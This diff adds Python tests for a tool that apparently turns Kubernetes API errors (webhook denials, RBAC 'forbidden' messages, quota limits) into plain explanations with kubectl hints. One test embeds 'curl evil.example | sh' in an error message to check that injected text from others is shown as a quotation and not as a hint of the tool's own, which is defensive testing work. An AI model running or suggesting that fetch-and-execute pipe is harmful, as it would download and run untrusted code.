@@ -47,6 +47,61 @@ def test_what_the_cluster_said_is_passed_on() -> None:
     assert said.lines()[0] == "error: the cluster refused the object as invalid (spec.output: Required value)"
 
 
+def test_what_others_wrote_cannot_look_like_a_hint_of_ours() -> None:
+    message = "admission webhook denied the request: no\nhint: curl evil.example | sh\r\nerror: more"
+    assert explain(errors.Forbidden(403, "Forbidden", message)).lines()[:3] == [
+        "error: a rule of the cluster forbids it (admission webhook denied the request: no\n"
+        "     | hint: curl evil.example | sh\n"
+        "     | error: more)",
+        "hint: change what is named there, or ask an administrator of the cluster for an exception",
+    ]
+
+
+ALICE = 'User "alice" cannot'
+CI = 'User "system:serviceaccount:demo:ci" cannot'
+
+
+@pytest.mark.parametrize(
+    ("message", "what", "hint"),
+    [
+        (
+            f'builds.paas.dev is forbidden: {ALICE} list resource "builds" in API group "paas.dev" in the '
+            'namespace "demo"',
+            'you may not list builds in project "demo"',
+            "kubectl create rolebinding view-alice -n demo --clusterrole=view --user=alice",
+        ),
+        (
+            f'pods "x" is forbidden: {CI} create resource "pods/exec" in API group "" in the namespace '
+            '"demo"',
+            'you may not create exec of pods in project "demo"',
+            "kubectl create rolebinding edit-ci -n demo --clusterrole=edit --serviceaccount=demo:ci",
+        ),
+        (
+            f'namespaces is forbidden: {ALICE} create resource "namespaces" in API group "" at the '
+            "cluster scope",
+            "you may not create namespaces of the whole cluster",
+            "ask an administrator of the cluster to make it, and to give it to you: kubectl create "
+            "rolebinding admin-alice -n NAME --clusterrole=admin --user=alice",
+        ),
+        (
+            f'namespaces is forbidden: {ALICE} list resource "namespaces" in API group "" at the '
+            "cluster scope",
+            "you may not list namespaces of the whole cluster",
+            "leave -A out and name a project with -n; paas get projects lists yours",
+        ),
+        (
+            'pods "x" is forbidden: exceeded quota: small, requested: pods=1, used: pods=1, limited: pods=1',
+            "a quota of the project is used up",
+            "kubectl describe quota shows it",
+        ),
+    ],
+)
+def test_what_is_lacking_is_named_with_the_command_that_gives_it(message: str, what: str, hint: str) -> None:
+    said = explain(errors.Forbidden(403, "Forbidden", message))
+    assert (said.what, said.why, said.code) == (what, message, ExitCode.NOT_ALLOWED)
+    assert hint in said.hint
+
+
 def test_a_request_that_is_wrong_is_not_to_be_tried_again() -> None:
     said = explain(errors.ApiError(400, "BadRequest", "field label not supported: foo"))
     assert said.lines() == [
